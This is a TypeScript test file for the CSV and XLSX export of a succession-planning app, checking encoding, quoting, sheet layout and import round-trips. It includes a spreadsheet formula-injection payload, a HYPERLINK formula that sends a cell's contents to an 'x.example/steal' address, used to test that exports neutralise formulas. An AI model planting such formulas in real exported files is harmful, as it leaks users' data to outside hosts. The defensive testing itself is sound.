import readExcelFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { planWith, successor, worked } from '../../../shared/domain/testing/plan-builder';
import { tableFromRecords, planImport } from '../../../shared/import';
import { exportFile } from './export-handlers';
import { readImportFile } from './read-import-file';

const INJECTION = '=HYPERLINK("http://x.example/steal?d="&A1,"Open")';

const plan = planWith({
  organization: 'Zoë & Co',
  people: [
    { id: 'p1', name: INJECTION, title: '+Chief of Staff', homeDomain: 'sales', performance: 4, potential: 'high', experience: [worked('sales', '2020-01-01')] },
    { id: 'p2', name: 'Анна Петрова', title: 'Head of Data, "EMEA"', homeDomain: 'data', managerId: 'p1' },
  ],
  rotations: [{ personId: 'p2', hostId: 'sales-hub', start: '2027-01-01', end: '2027-06-30' }],
  roles: [{ id: 'cso', title: 'Chief Service Officer', domains: ['sales', 'data'], successors: [successor('p2', 'ready-now')] }],
});

const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

describe('export to CSV', () => {
  it('writes UTF-8 with a BOM, CRLF line ends and quotes where needed', async () => {
    const file = await exportFile(plan, 'people', 'csv');
    expect(file.fileName).toBe('Zoë-Co-people.csv');
    expect([...file.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = text(file.bytes).split('\r\n');
    expect(lines[0]).toMatch(/^Employee id,Name,Title,Home domain,Side,Manager id,Manager,Track,Performance,Potential,Flight risk,Braid index/);
    expect(lines[2]).toContain('Анна Петрова,"Head of Data, ""EMEA"""');
  });

  it('neutralises formulas: the cell starts with a quote, in every table', async () => {
    const people = text((await exportFile(plan, 'people', 'csv')).bytes);
    expect(people).toContain(`p1,"'${INJECTION.replace(/"/g, '""')}",'+Chief of Staff,`);
    expect(people).not.toMatch(/(^|,)[=+@-]/m);
    const roles = text((await exportFile(plan, 'roles', 'csv')).bytes);
    expect(roles).not.toMatch(/(^|,)"?[=+@-]/m);
  });

  it('exports a table that the import reads back without a mapping', async () => {
    const file = await exportFile(plan, 'people', 'csv');
    const read = await readImportFile(file.fileName, file.bytes);
    const { outcome } = planImport(plan, read.table);
    expect(outcome.refusals).toEqual([]);
    expect(outcome.counts).toMatchObject({ rows: 2, unchanged: 2, adds: 0, updates: 0 });
  });

  it('refuses "everything" as one CSV', async () => {
    await expect(exportFile(plan, 'all', 'csv')).rejects.toThrow('A CSV file holds one table');
  });
});

describe('export to XLSX', () => {
  it('writes every table as a sheet, numbers as numbers and dates as dates', async () => {
    const file = await exportFile(plan, 'all', 'xlsx');
    expect(file.fileName).toBe('Zoë-Co.xlsx');
    const sheets = await readExcelFile(Buffer.from(file.bytes));
    expect(sheets.map((s) => s.sheet)).toEqual(['People', 'Assessments', 'Rotations', 'Development actions', 'Roles and successors', 'Flags', 'Programme cost']);
    const people = sheets[0].data;
    expect(people[1][0]).toBe('p1');
    expect(people[1][1]).toBe(`'${INJECTION}`);
    expect(people[1][2]).toBe("'+Chief of Staff");
    expect(typeof people[1][8]).toBe('number');
    const rotations = sheets[2].data;
    expect(rotations[1][6]).toEqual(new Date('2027-01-01T00:00:00Z'));
  });

  it('is read back by the import as the same people', async () => {
    const file = await exportFile(plan, 'people', 'xlsx');
    const read = await readImportFile(file.fileName, file.bytes);
    expect(read.table.rows.map((r) => r.cells[1])).toEqual([`'${INJECTION}`, 'Анна Петрова']);
    const { outcome } = planImport(plan, tableFromRecords([read.table.headers, ...read.table.rows.map((r) => r.cells)]));
    // The quote added against formulas comes off again on import: nothing changes.
    expect(outcome.counts).toMatchObject({ unchanged: 2, refused: 0 });
  });
});
